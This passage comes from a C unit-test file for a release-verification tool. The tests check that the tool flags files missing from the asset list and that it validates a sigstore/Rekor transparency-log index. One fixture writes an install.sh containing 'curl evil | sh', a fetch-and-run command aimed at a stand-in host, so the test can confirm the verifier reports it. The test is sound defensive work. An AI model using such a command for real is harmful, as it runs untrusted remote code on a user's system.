        EXPECT_OK(mt_file_write_atomic(file, b, len - 1, 0644));
        mt_free(b);
    }
}

/* ---- release verify: unlisted files, rekor index ---- */

/* Verify kdir with the CLI; the FAIL names joined by ','. */
static char *
verify_fails(struct cli_result *r)
{
    RUN(r, NULL, "release", "verify", kdir, "--family", "kms", "--version", VERSION, "--key", pub);
    return fail_lines(r->out);
}

static void
test_verify_reports_unlisted_files(void **state)
{
    char path[500], *fails;
    struct cli_result r;

    (void)state;
    fails = verify_fails(&r);
    expect_rc(&r, 0, "pristine");
    assert_string_equal(fails, "");
    expect_has(r.out, "PASS assets:unlisted\n", "pristine");
    mt_free(fails);
    cli_free(&r);

    /* Added files, an orphan sidecar, a subdirectory: named, sorted. */
    snprintf(path, sizeof(path), "%s/install.sh", kdir);
    release_write_text(path, "#!/bin/sh\ncurl evil | sh\n");
    snprintf(path, sizeof(path), "%s/kms-phala-attestation-policy.staging.json", kdir);
    release_write_text(path, "{}\n");
    snprintf(path, sizeof(path), "%s/install.sh.sig", kdir);
    release_write_text(path, "AAAA");
    snprintf(path, sizeof(path), "%s/.hidden", kdir);
    release_write_text(path, "x");
    snprintf(path, sizeof(path), "%s/sub", kdir);
    assert_int_equal(mkdir(path, 0700), 0);
    fails = verify_fails(&r);
    expect_rc(&r, 1, "unlisted files");
    assert_string_equal(fails, "assets:unlisted");
    expect_has(r.out,
               "FAIL assets:unlisted: 5 files no asset list mentions: .hidden, install.sh, "
               "install.sh.sig, kms-phala-attestation-policy.staging.json, sub "
               "(release_unlisted_file)\n",
               "unlisted files");
    mt_free(fails);
    cli_free(&r);
    rmdir(path);
    snprintf(path, sizeof(path), "%s/.hidden", kdir);
    unlink(path);
    snprintf(path, sizeof(path), "%s/install.sh.sig", kdir);
    unlink(path);
    snprintf(path, sizeof(path), "%s/kms-phala-attestation-policy.staging.json", kdir);
    unlink(path);

    /* Signing an added file does not make it part of the release. */
    release_sign_dir(kdir, priv);
    fails = verify_fails(&r);
    assert_string_equal(fails, "assets:unlisted");
    expect_has(r.out,
               "FAIL assets:unlisted: 3 files no asset list mentions: install.sh, "
               "install.sh.bundle.json, install.sh.sig (release_unlisted_file)\n",
               "signed stray file");
    mt_free(fails);
    cli_free(&r);
    snprintf(path, sizeof(path), "%s/install.sh", kdir);
    unlink(path);
    snprintf(path, sizeof(path), "%s/install.sh.sig", kdir);
    unlink(path);
    snprintf(path, sizeof(path), "%s/install.sh.bundle.json", kdir);
    unlink(path);

    /* A .pem sidecar of an asset is part of the release (keyless releases ship them). */
    snprintf(path, sizeof(path), "%s/kms-phala-checksums.txt.pem", kdir);
    release_write_text(path, "-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n");
    fails = verify_fails(&r);
    assert_string_equal(fails, "");
    mt_free(fails);
    cli_free(&r);
    unlink(path);

    /* Many files: the detail names eight and counts the rest. */
    {
        int i;

        for (i = 0; i < 10; i++) {
            snprintf(path, sizeof(path), "%s/extra-%02d", kdir, i);
            release_write_text(path, "x");
        }
        fails = verify_fails(&r);
        expect_has(r.out,
                   "FAIL assets:unlisted: 10 files no asset list mentions: extra-00, extra-01, "
                   "extra-02, extra-03, extra-04, extra-05, extra-06, extra-07, and 2 more "
                   "(release_unlisted_file)\n",
                   "ten extra files");
        mt_free(fails);
        cli_free(&r);
        for (i = 0; i < 10; i++) {
            snprintf(path, sizeof(path), "%s/extra-%02d", kdir, i);
            unlink(path);
        }
    }
}

/* The rekor index of kdir, entries for the manifest and the checksums (log fields ""). */
static json_t *
rekor_index(void)
{
    static const char *const assets[2] = {"kms-phala-release-manifest.json",
                                          "kms-phala-checksums.txt"};
    char path[500], hash[80], url[160], bundle[300];
    json_t *entries = json_array(), *doc;
    uint8_t d[32];
    size_t i;

    for (i = 0; i < 2; i++) {
        snprintf(path, sizeof(path), "%s/%s", kdir, assets[i]);
        EXPECT_OK(mt_rel_file_sha256(path, 1u << 20, d));
        snprintf(hash, sizeof(hash), "sha256:%s", mt_test_hex(d, 32));
        snprintf(url, sizeof(url), "https://search.sigstore.dev/?hash=%s", hash);
        snprintf(bundle, sizeof(bundle), "%s.bundle.json", assets[i]);
        json_array_append_new(entries,
                              json_pack("{s:s,s:s,s:s,s:s,s:s,s:s,s:s}", "asset", assets[i],
                                        "bundle_asset", bundle, "hash", hash, "sigstore_search_url",
                                        url, "log_index", "", "integrated_time", "", "log_id", ""));
    }
    doc = json_pack("{s:i,s:s,s:s,s:s,s:s,s:o}", "schema_version", 1, "tag", VERSION,
                    "workflow_run_id", "1234567890", "workflow_run_attempt", "1", "generated_at",
                    "2026-03-30T12:00:00Z", "entries", entries);
    assert_non_null(doc);
    return doc;
}

static void
put_rekor(json_t *doc)
{
    char path[500];
    struct mt_buf b;

    mt_buf_init(&b, 1u << 20);
    EXPECT_OK(mt_rel_json_dump(doc, &b));
    snprintf(path, sizeof(path), "%s/" MT_REL_KMS_REKOR, kdir);
    EXPECT_OK(mt_file_write_atomic(path, b.p, b.len, 0644));
    mt_buf_free(&b);
    json_decref(doc);
    release_sign_dir(kdir, priv); /* so that only the index's own checks can fail */
}

static void
rekor_fails(json_t *doc, const char *want_fails, const char *want_detail)
{
    struct cli_result r;
    char *fails;

    put_rekor(doc);
    fails = verify_fails(&r);
    if (strcmp(fails, want_fails) != 0)
        fail_msg("rekor index: failing \"%s\", want \"%s\"\n%s", fails, want_fails, r.out);
    if (want_detail != NULL)
        expect_has(r.out, want_detail, "rekor index");
    mt_free(fails);
    cli_free(&r);
}

static json_t *
entry0(json_t *doc)
{
    return json_array_get(json_object_get(doc, "entries"), 0);
}

static void
test_verify_checks_the_rekor_index(void **state)
{
    char path[500], why[512], art[500];
    struct cli_result r;
    json_t *doc, *e;
    char *fails;

    (void)state;
    rekor_fails(rekor_index(), "", NULL);
    fails = verify_fails(&r);
    expect_has(r.out, "PASS schema:kms-phala-rekor-index.json\n", "rekor index");
    expect_has(r.out, "PASS consistency:rekor-index\n", "rekor index");
    expect_has(r.out, "PASS signature:kms-phala-rekor-index.json\n", "rekor index");
    mt_free(fails);
    cli_free(&r);

    doc = rekor_index();
    json_object_set_new(entry0(doc), "hash",
                        json_string("sha256:"
                                    "00000000000000000000000000000000"
                                    "00000000000000000000000000000000"));
    json_object_set_new(
        entry0(doc), "sigstore_search_url",
        json_string("https://search.sigstore.dev/?hash=sha256:"
                    "0000000000000000000000000000000000000000000000000000000000000000"));
    rekor_fails(doc, "consistency:rekor-index",
                "FAIL consistency:rekor-index: entry kms-phala-release-manifest.json: hash is not "
                "the asset's SHA-256");
    doc = rekor_index();
    json_object_set_new(doc, "workflow_run_id", json_string("1"));
    rekor_fails(doc, "consistency:rekor-index",
                "FAIL consistency:rekor-index: workflow_run_id differs from the manifest's");
    doc = rekor_index();
    json_object_set_new(entry0(doc), "asset", json_string("install.sh"));
    json_object_set_new(entry0(doc), "bundle_asset", json_string("install.sh.bundle.json"));
    rekor_fails(doc, "consistency:rekor-index", "entry install.sh is not an asset of this release");
    doc = rekor_index();
    json_object_set_new(entry0(doc), "asset", json_string(MT_REL_KMS_REKOR));
    json_object_set_new(entry0(doc), "bundle_asset", json_string(MT_REL_KMS_REKOR ".bundle.json"));
    rekor_fails(doc, "consistency:rekor-index", "is not an asset of this release");
    /* Log coordinates, but the key-signed bundle has no log entry. */
    doc = rekor_index();
    e = entry0(doc);
    json_object_set_new(e, "log_index", json_string("25915956"));
    json_object_set_new(e, "integrated_time", json_string("1712085549"));
    json_object_set_new(e, "log_id", json_string("0y8wo8MtY5wrdiIFohx7sHeI5oKDpK5vQhGHI6G+pJY="));
    rekor_fails(doc, "consistency:rekor-index",
                "has a log_index but its bundle records no transparency-log entry");
    /* A schema failure: both checks fail. */
    doc = rekor_index();
    json_object_set_new(doc, "tag", json_string("2.3.41"));
    rekor_fails(doc, "schema:kms-phala-rekor-index.json,consistency:rekor-index",
                "FAIL consistency:rekor-index: needs a valid kms-phala-rekor-index.json");
    /* An index whose own signature is gone. */
    put_rekor(rekor_index());
    snprintf(path, sizeof(path), "%s/" MT_REL_KMS_REKOR ".sig", kdir);
    unlink(path);
    snprintf(path, sizeof(path), "%s/" MT_REL_KMS_REKOR ".bundle.json", kdir);
    unlink(path);
    fails = verify_fails(&r);
    assert_string_equal(fails, "signature:kms-phala-rekor-index.json");
    mt_free(fails);
    cli_free(&r);
    snprintf(path, sizeof(path), "%s/" MT_REL_KMS_REKOR, kdir);
    unlink(path);
    fails = verify_fails(&r);
    assert_string_equal(fails, "");
    mt_free(fails);
    cli_free(&r);

    /*
     * Log coordinates against real bundles (the library call): a protobuf
     * v0.3 bundle (strings, logId.keyId) and a legacy cosign bundle
     * (integers, logID hex), each as the metadata asset's bundle.
     */
    {
        char dir[300], hash[80];
        json_t *idx;

        snprintf(dir, sizeof(dir), "%s/rekor", tmp);
        assert_int_equal(mkdir(dir, 0700), 0);
        snprintf(art, sizeof(art), "%s/kms-phala-container-metadata.json", dir);
        release_write_text(art, "{}\n");
        snprintf(path, sizeof(path), "%s/kms-phala-container-metadata.json.bundle.json", dir);
        copy_file(MT_SHARED_DIR "/vectors/sigstore/sigstore-python/bundle_v3.txt.sigstore", path);
        {
            uint8_t d[32];

            EXPECT_OK(mt_rel_file_sha256(art, 1024, d));
            snprintf(hash, sizeof(hash), "sha256:%s", mt_test_hex(d, 32));
        }
        idx = json_pack("{s:[{s:s,s:s,s:s,s:s,s:s,s:s,s:s}]}", "entries", "asset",
                        "kms-phala-container-metadata.json", "bundle_asset",
                        "kms-phala-container-metadata.json.bundle.json", "hash", hash,
                        "sigstore_search_url", "", "log_index", "25915956", "integrated_time",
                        "1712085549", "log_id", "0y8wo8MtY5wrdiIFohx7sHeI5oKDpK5vQhGHI6G+pJY=");
        assert_non_null(idx);
        EXPECT_OK(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)));
        e = json_array_get(json_object_get(idx, "entries"), 0);
        json_object_set_new(e, "log_index", json_integer(25915956));
        EXPECT_OK(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)));
        json_object_set_new(e, "log_index", json_string("25915957"));
        EXPECT_ERR(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)),
                   MT_ERR_RELEASE_INCONSISTENT);
        expect_has(why, "log_index \"25915957\" is not the bundle's \"25915956\"", "v0.3 index");
        json_object_set_new(e, "log_index", json_string("25915956"));
        json_object_set_new(e, "integrated_time", json_string("1712085550"));
        EXPECT_ERR(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)),
                   MT_ERR_RELEASE_INCONSISTENT);
        expect_has(why, "integrated_time", "v0.3 index");
        json_object_set_new(e, "integrated_time", json_string("1712085549"));
        json_object_set_new(e, "log_id", json_string("AAAA"));
        EXPECT_ERR(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)),
                   MT_ERR_RELEASE_INCONSISTENT);
        expect_has(why, "log_id \"AAAA\"", "v0.3 index");

        /* Legacy cosign bundle. */
        copy_file(MT_SHARED_DIR "/vectors/sigstore/legacy/happy-path-v0.1.bundle.json", path);
        json_object_set_new(e, "log_index", json_integer(27246492));
        json_object_set_new(e, "integrated_time", json_string("1689177396"));
        json_object_set_new(
            e, "log_id",
            json_string("c0d23d6ad406973f9559f3ba2d1ca01f84147d8ffc5b8445c224f98b9591801d"));
        EXPECT_OK(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)));
        json_object_set_new(e, "log_index", json_integer(27246491));
        EXPECT_ERR(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)),
                   MT_ERR_RELEASE_INCONSISTENT);
        /* A bundle that is not JSON; a missing bundle; a missing asset. */
        release_write_text(path, "not json");
        EXPECT_ERR(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)),
                   MT_ERR_RELEASE_INCONSISTENT);
        expect_has(why, "is not a JSON document", "bad bundle");
        unlink(path);
        EXPECT_ERR(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)),
                   MT_ERR_RELEASE_INCONSISTENT);
        expect_has(why, "bundle.json is not in the directory", "no bundle");
        unlink(art);
        EXPECT_ERR(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)),
                   MT_ERR_RELEASE_INCONSISTENT);
        expect_has(why, "the asset is not in the directory", "no asset");
        json_decref(idx);
    }
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_merod_config_url_succeeds),
        cmocka_unit_test(test_merod_config_url_failures),
        cmocka_unit_test(test_merod_config_url_must_be_https),
        cmocka_unit_test(test_merod_apply_runs_merod),
        cmocka_unit_test(test_catalog_update),
        cmocka_unit_test(test_verify_reports_unlisted_files),
        cmocka_unit_test(test_verify_checks_the_rekor_index),
    };

    mt_test_require_shared();
    return cmocka_run_group_tests(tests, setup, teardown);
}
